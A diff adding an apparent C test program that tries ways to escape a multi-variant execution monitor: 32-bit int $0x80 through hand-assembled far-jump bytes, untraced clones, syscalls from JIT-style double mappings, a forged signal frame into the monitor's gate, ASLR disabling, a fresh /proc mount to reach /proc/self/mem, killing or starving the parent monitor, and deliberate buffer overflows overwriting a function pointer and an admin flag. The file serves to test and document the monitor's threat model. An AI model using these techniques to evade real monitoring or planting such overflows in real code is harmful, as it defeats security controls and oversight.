@@ -1,0 +1,306 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * Ways around the monitor, tried by code that runs in every variant alike:
+ *
+ *	far32		32-bit code, and its int $0x80
+ *	untraced	a child of clone(CLONE_UNTRACED)
+ *	jit		system calls from code written through a second mapping
+ *	sigreturn	a signal frame that returns into the gate
+ *	no-aslr, no-stack-limit
+ *			programs executed with less randomness than their parent
+ *	proc-again	another mount of /proc (root)
+ *	kill, limits	the monitor itself, which has the same user id
+ *	sparse		a huge file, mapped shared
+ *
+ * and ways that no comparison of variants can see, so that the threat model can
+ * say so:
+ *
+ *	partial		the lowest two bytes of a pointer, which are the same
+ *			in every layout
+ *	data		a flag beside an overflowing buffer
+ *	shared-store	an address, stored into a file without a system call
+ *
+ *	ahead		an address written, then a thousand small outputs
+ */
+#include <fcntl.h>
+#include <sched.h>
+#include <stddef.h>
+#include <sys/mount.h>
+#include <sys/personality.h>
+#include <sys/resource.h>
+#include <ucontext.h>
+#include "attack.h"
+#include <ipmon/abi.h>
+
+static void leak(void)
+{
+	uintptr_t v = (uintptr_t)&v;
+
+	(void)!write(1, &v, sizeof(v));
+	effect();
+}
+
+/* mkdir("effect") by int $0x80 of a 32-bit code segment, and back. */
+static int far32(void)
+{
+	static const unsigned char code[] = {
+		0xb8, 39, 0, 0, 0,			/* mov $39, %eax */
+		0xb9, 0xc0, 1, 0, 0,			/* mov $0700, %ecx */
+		0xcd, 0x80,				/* int $0x80 */
+		0xea, 0, 0, 0, 0, 0x33, 0,		/* ljmp $0x33, ... */
+		/* 64 bits again */
+		0x4c, 0x89, 0xfc,			/* mov %r15, %rsp */
+		0x41, 0xff, 0xe6,			/* jmp *%r14 */
+	};
+	unsigned char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
+				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+	uint32_t back;
+
+	if (low == MAP_FAILED)
+		return 0;
+	memcpy(low, code, sizeof(code));
+	strcpy((char *)low + 256, "effect");
+	back = (uint32_t)(uintptr_t)low + 19;
+	memcpy(low + 13, &back, 4);
+	__asm__ volatile("lea 1f(%%rip), %%r14\n\tmov %%rsp, %%r15\n\t"
+			 "push $0x23\n\tpush %0\n\tlretq\n1:"
+			 : : "r"((uint64_t)low), "b"(low + 256)
+			 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10",
+			   "r11", "r14", "r15", "memory");
+	return 0;
+}
+
+static int untraced(void)
+{
+	long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
+
+	if (pid == 0) {
+		leak();
+		_exit(0);
+	}
+	waitpid((pid_t)pid, NULL, 0);
+	return 0;
+}
+
+static int jit(void)
+{
+	static const unsigned char code[] = { 0xb8, 1, 0, 0, 0, 0x0f, 0x05, 0xc3 };
+	int fd = memfd_create("jit", 0);
+	unsigned char *w, *x;
+	uintptr_t v = (uintptr_t)&v;
+	long r;
+
+	if (ftruncate(fd, 4096))
+		return 1;
+	w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
+	if (w == MAP_FAILED || x == MAP_FAILED)
+		return 0;
+	memcpy(w, code, sizeof(code));
+	for (int i = 0; i < 20; i++)
+		__asm__ volatile("sub $256, %%rsp\n\tcall *%1\n\tadd $256, %%rsp"
+				 : "=a"(r) : "r"(x), "D"(1), "S"(&v),
+				   "d"(i < 19 ? 0 : sizeof(v))
+				 : "rcx", "r11", "memory");
+	effect();
+	return 0;
+}
+
+static void into_the_gate(int sig, siginfo_t *si, void *uc)
+{
+	greg_t *g = ((ucontext_t *)uc)->uc_mcontext.gregs;
+	uint64_t ctx;
+
+	__asm__ volatile("mov %%gs:0, %0" : "=r"(ctx));
+	g[REG_RIP] = (greg_t)((struct ipmon_ctx *)ctx)->gate;
+	g[REG_RAX] = SYS_mkdir;
+	g[REG_RDI] = (greg_t)"effect";
+	g[REG_RSI] = 0700;
+}
+
+static int forged_frame(void)
+{
+	struct sigaction sa = { .sa_sigaction = into_the_gate,
+				.sa_flags = SA_SIGINFO };
+
+	warm();
+	sigaction(SIGUSR1, &sa, NULL);
+	raise(SIGUSR1);
+	return 0;
+}
+
+static int again(const char *what)
+{
+	struct rlimit inf = { RLIM_INFINITY, RLIM_INFINITY };
+
+	if (strcmp(what, "no-aslr") == 0)
+		personality(ADDR_NO_RANDOMIZE);
+	else if (setrlimit(RLIMIT_STACK, &inf))
+		return 77;
+	execl("/proc/self/exe", "escape", "leaks", (char *)NULL);
+	return 1;
+}
+
+static int proc_again(void)
+{
+	char buf[65536];
+	ssize_t n;
+	int fd;
+
+	mkdir("mnt", 0700);
+	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
+	    mount("proc", "mnt", "proc", 0, NULL))
+		return 77;
+	fd = open("mnt/self/maps", O_RDONLY);
+	while ((n = read(fd, buf, sizeof(buf))) > 0)
+		(void)!write(1, buf, (size_t)n);
+	fd = open("mnt/self/mem", O_RDWR);
+	if (fd >= 0)
+		effect();
+	return 0;
+}
+
+/* The monitor is the parent: it has the same user id, and can be hurt. */
+static int hurt(const char *what)
+{
+	static const int limits[] = { RLIMIT_NOFILE, RLIMIT_DATA, RLIMIT_AS,
+		RLIMIT_FSIZE, RLIMIT_NPROC, RLIMIT_STACK };
+	struct rlimit none = { 0, 0 };
+
+	if (strcmp(what, "kill") == 0)
+		kill(getppid(), SIGKILL);
+	for (size_t i = 0; i < sizeof(limits) / sizeof(*limits); i++)
+		prlimit(getppid(), (enum __rlimit_resource)limits[i], &none, NULL);
+	leak();
+	return 0;
+}
+
+static int sparse(void)
+{
+	int fd = open("sparse", O_RDWR | O_CREAT, 0600);
+	char *p;
+
+	unlink("sparse");
+	if (ftruncate(fd, 1l << 40))
+		return 0;
+	p = mmap(NULL, 1ul << 40, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	if (p != MAP_FAILED) {
+		p[1ul << 39] = 1;
+		if (p[1ul << 39] != 1 || p[123])
+			return 1;
+	}
+	return 0;
+}
+
+/* ---- what variants cannot see ---- */
+
+static void __attribute__((noinline)) greet(void)
+{
+	(void)!write(1, "hello\n", 6);
+}
+
+static void __attribute__((noinline)) secret(void)
+{
+	effect();
+}
+
+static struct {
+	char name[8];
+	void (*fn)(void);
+	int admin;
+} victim = { "", greet, 0 };
+
+/* strcpy and the like, with what an attacker has sent: `n` bytes */
+static void __attribute__((noinline)) overflow(const char *from, size_t n)
+{
+	char *to = victim.name;
+
+	__asm__ volatile("" : "+r"(to));
+	memcpy(to, from, n);
+}
+
+static int partial(void)
+{
+	/* known from the binary, without knowing where it is loaded: the
+	 * attacker is lucky once in 16 times, and this one knows */
+	uint16_t low = (uint16_t)(uintptr_t)secret;
+	char sent[10] = "AAAAAAAA";
+
+	if (((uintptr_t)secret ^ (uintptr_t)greet) >> 16)
+		return 0;
+	memcpy(sent + 8, &low, 2);
+	overflow(sent, sizeof(sent));
+	victim.fn();
+	return 0;
+}
+
+static int data(void)
+{
+	char sent[20];
+
+	memset(sent, 1, sizeof(sent));
+	memcpy(sent + 8, &victim.fn, 8);	/* left as it was */
+	overflow(sent, sizeof(sent));
+	if (victim.admin)
+		effect();
+	return 0;
+}
+
+static int shared_store(void)
+{
+	int fd = open("file", O_RDWR | O_CREAT, 0600);
+	uintptr_t *p;
+
+	if (ftruncate(fd, 4096))
+		return 1;
+	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	p[0] = (uintptr_t)&fd;
+	p[1] = 1;
+	return 0;
+}
+
+static int ahead(void)
+{
+	int fd = open("out", O_WRONLY | O_CREAT | O_APPEND, 0600);
+	uintptr_t v = (uintptr_t)&v;
+
+	for (int i = 0; i < 20; i++)
+		(void)!write(fd, "", 0);
+	(void)!write(fd, &v, sizeof(v));
+	for (int i = 0; i < 1000; i++)
+		(void)!write(fd, ".", 1);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	const char *what = argc > 1 ? argv[1] : "";
+
+	if (strcmp(what, "far32") == 0)
+		return far32();
+	if (strcmp(what, "untraced") == 0)
+		return untraced();
+	if (strcmp(what, "jit") == 0)
+		return jit();
+	if (strcmp(what, "sigreturn") == 0)
+		return forged_frame();
+	if (strcmp(what, "no-aslr") == 0 || strcmp(what, "no-stack-limit") == 0)
+		return again(what);
+	if (strcmp(what, "leaks") == 0)
+		leak();
+	if (strcmp(what, "proc-again") == 0)
+		return proc_again();
+	if (strcmp(what, "kill") == 0 || strcmp(what, "limits") == 0)
+		return hurt(what);
+	if (strcmp(what, "sparse") == 0)
+		return sparse();
+	if (strcmp(what, "partial") == 0)
+		return partial();
+	if (strcmp(what, "data") == 0)
+		return data();
+	if (strcmp(what, "shared-store") == 0)
+		return shared_store();
+	if (strcmp(what, "ahead") == 0)
+		return ahead();
+	return 0;
+}
